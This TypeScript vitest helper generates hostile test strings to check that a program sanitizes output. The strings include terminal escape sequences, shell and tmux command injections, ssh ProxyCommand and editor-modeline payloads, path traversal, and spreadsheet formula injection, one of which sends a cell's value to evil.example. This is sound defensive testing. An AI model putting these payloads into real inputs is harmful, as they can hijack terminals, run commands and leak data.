import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { onTestFinished } from 'vitest';

/** Hostile text: the mark that identifies it, and its effect if anything acted on it. */
export type Payload = {
  readonly id: string;
  /** Part of the text that no other payload has and that no sanitizing removes. */
  readonly mark: string;
  readonly text: string;
};

type Recipe = (mark: string, command: string) => string;

/** Texts that act on a terminal, or hide their content. */
const TERMINAL = {
  'clear the screen': (mark) => `${mark}\u001b[2J\u001b[1;1H`,
  'a control sequence of one byte': (mark) => `${mark}\u009b2J\u009b1;1H`,
  'set the title': (mark) => `${mark}\u001b]0;owned\u0007`,
  'set the title, one byte': (mark) => `${mark}\u009d0;owned\u009c`,
  'a link': (mark) => `${mark}\u001b]8;;http://evil.example/\u001b\\here\u001b]8;;\u001b\\`,
  'write the clipboard': (mark) => `${mark}\u001b]52;c;b3duZWQ=\u0007`,
  'a notification': (mark) => `${mark}\u001b]9;owned\u0007\u001b]777;notify;owned;owned\u001b\\`,
  'change the colours': (mark) => `${mark}\u001b]11;#ff0000\u0007\u001b]4;1;red\u0007`,
  'a shell mark': (mark) => `${mark}\u001b]133;C\u0007\u001b]7;file://evil/\u0007\u001b]633;E;id\u0007`,
  'a picture': (mark) => `${mark}\u001b]1337;File=name=YQ==;inline=1:AAAA\u0007\u001b_Gi=1,a=T;AAAA\u001b\\`,
  'a device control string': (mark) => `${mark}\u001bP1$tx\u001b\\\u0090q#0\u009c`,
  'through tmux': (mark) => `${mark}\u001bPtmux;\u001b\u001b]0;owned\u0007\u001b\\`,
  'ask the terminal': (mark) => `${mark}\u001b[c\u001b[6n\u001b[21t\u001bP$qm\u001b\\`,
  'reset the terminal': (mark) => `${mark}\u001bc\u001b[!p`,
  'switch modes': (mark) => `${mark}\u001b[?1049l\u001b[?1000h\u001b[?25l\u001b[?2004l\u001b[20h\u001b(0`,
  'colours and hidden text': (mark) => `${mark}\u001b[8mhidden\u001b[0m\u001b[31m`,
  'reversed writing': (mark) => `${mark}\u202egpj.exe\u202c\u2067x\u2069\u200f\u061c`,
  'invisible characters': (mark) => `${mark}\u200b\u2060\ufeff\u00ad\u180e\u2063`,
  'fillers, joiners and variants': (mark) =>
    `${mark}\u034f\u115f\u17b4\u180b\u2800\u3164\uffa0\ufe00\u{1bca0}\u{e0100}a\u200db\u200cc\u00a0d`,
  'invisible tags': (mark) => `${mark}\u{e0041}\u{e0042}\u{e007f}`,
  backspaces: (mark) => `${mark}\b\b\b\u007f\u007fgone`,
  'a zero byte': (mark) => `${mark}\u0000after`,
  'the bell': (mark) => `${mark}\u0007\u0007`,
  'half a character': (mark) => `${mark}\ud800x\udc00`,
  'two hundred accents': (mark) => `${mark}${'e\u0301'.repeat(3)}${'\u0336'.repeat(200)}`,
  'wide characters': (mark) => `${mark}界夜👩‍👩‍👧‍👦ｱ`,
} as const satisfies Readonly<Record<string, Recipe>>;

/** Texts that would become more than one row or cell. */
const ROWS = {
  'a line feed': (mark) => `${mark}\nforged  allocated  8`,
  'a carriage return': (mark) => `${mark}\rforged`,
  both: (mark) => `${mark}\r\nforged\r\n\r\n`,
  'a tab': (mark) => `${mark}\tforged\tallocated`,
  'other line ends': (mark) => `${mark}\u2028forged\u2029forged\u0085forged\u000bforged\u000cforged`,
  'quotes and commas': (mark) => `${mark}","forged","x`,
  'an end of JSON': (mark) => `${mark}"}]}\n{"forged":true}`,
  'a bar': (mark) => `${mark} | forged │ forged`,
} as const satisfies Readonly<Record<string, Recipe>>;

/** Texts that a shell, or a program that passes them to one, would run. */
const COMMANDS = {
  'command substitution': (mark, command) => `${mark}$(${command})`,
  backticks: (mark, command) => `${mark}\`${command}\``,
  'a semicolon': (mark, command) => `${mark}; ${command};`,
  'a pipe': (mark, command) => `${mark}| ${command}`,
  and: (mark, command) => `${mark} && ${command} &`,
  'a line of its own': (mark, command) => `${mark}\n${command}\n`,
  'out of single quotes': (mark, command) => `${mark}'; ${command}; '`,
  'out of double quotes': (mark, command) => `${mark}"; ${command}; "`,
  'out of dollar quotes': (mark, command) => `${mark}$'\\x27;${command};\\x27'`,
  'a process': (mark, command) => `${mark}<(${command}) =(${command})`,
  parentheses: (mark, command) => `${mark}(${command})`,
  'a glob that runs': (mark, command) => `${mark}*(e:'${command}':)`,
  history: (mark) => `${mark}!! !$ ^a^b`,
  'braces and a home': (mark) => `~/${mark}{a,b}*?[a-z]`,
  'escapes for echo': (mark) => `${mark}\\x1b[2J\\033]0;owned\\007\\n\\c`,
  'percent signs': (mark) => `${mark}%h%n%s%p%(x)%%`,
  'a tmux command': (mark, command) => `${mark}#(${command})`,
  'a tmux format': (mark, command) => `${mark}#{E:#(${command})}#{pane_id}#[fg=red]`,
  'the end of a tmux command': (mark) => `${mark};`,
  'a second tmux command': (mark, command) => `${mark} ; run-shell '${command}' \\;`,
  'a pattern of ssh': (mark) => `*${mark}?`,
  'a negated pattern': (mark) => `!${mark} *`,
  'an ssh setting': (mark, command) =>
    `${mark}\n  ProxyCommand ${command}\nMatch exec "${command}"\n  LocalCommand ${command}`,
  'an option of ssh': (mark, command) => `-oProxyCommand=${command};${mark}`,
  'an option': (mark) => `--yes=${mark}`,
  'a short option': (mark) => `-x${mark}`,
  'an editor line': (mark, command) =>
    `# ${mark} vim: set modeline foldexpr=system('${command}') foldmethod=expr: -*- eval: (shell-command "${command}") -*-`,
  'another folder': (mark) => `../../../../tmp/${mark}`,
  'a path': (mark) => `/etc/passwd/${mark}`,
  'the name of a host': (mark) => `${mark}.github.com`,
  'a comment': (mark) => `# ${mark}`,
  'an assignment': (mark) => `PATH=/tmp/${mark}`,
} as const satisfies Readonly<Record<string, Recipe>>;

/** Texts that a spreadsheet would calculate. */
const CELLS = {
  'a formula that runs': (mark, command) => `=cmd|' /C ${command}'!${mark}`,
  'a formula': (mark) => `=HYPERLINK("http://evil.example/?"&A1,"${mark}")`,
  plus: (mark) => `+${mark}+1`,
  minus: (mark) => `-${mark}+1`,
  at: (mark) => `@SUM(${mark})`,
  'a tab before a formula': (mark) => `\t=${mark}`,
  'a return before a formula': (mark) => `\r=${mark}`,
  'a blank before a formula': (mark) => ` =${mark}`,
} as const satisfies Readonly<Record<string, Recipe>>;

/** Names of built-in members of objects; each is its own mark. */
const MEMBERS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'] as const;

const RECIPES: Readonly<Record<string, Recipe>> = { ...TERMINAL, ...ROWS, ...COMMANDS, ...CELLS };

/** Folder in which a file appears when a payload is run as a command. */
export type Canary = {
  /** Command that a payload tries to run. */
  readonly commandFor: (mark: string) => string;
  /** The marks of the payloads that ran. */
  readonly ran: () => readonly string[];
};

/** Creates a canary until the end of the test. Its path has no character that sanitizing would remove. */
export function setOutCanary(): Canary {
  const folder = mkdtempSync(join(tmpdir(), 'canary-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  return { commandFor: (mark) => `touch ${join(folder, mark)}`, ran: () => readdirSync(folder) };
}

/** Every hostile text. Each has a mark such as `m07m`. */
export function payloadsFor({ commandFor }: Pick<Canary, 'commandFor'>): readonly Payload[] {
  const made = Object.entries(RECIPES).map(([id, recipe], n) => {
    const mark = `m${String(n).padStart(2, '0')}m`;
    return { id, mark, text: recipe(mark, commandFor(mark)) };
  });
  return [...made, ...MEMBERS.map((name) => ({ id: `the member ${name}`, mark: name, text: name }))];
}

/** Number of payloads. */
export const PAYLOADS = Object.keys(RECIPES).length + MEMBERS.length;
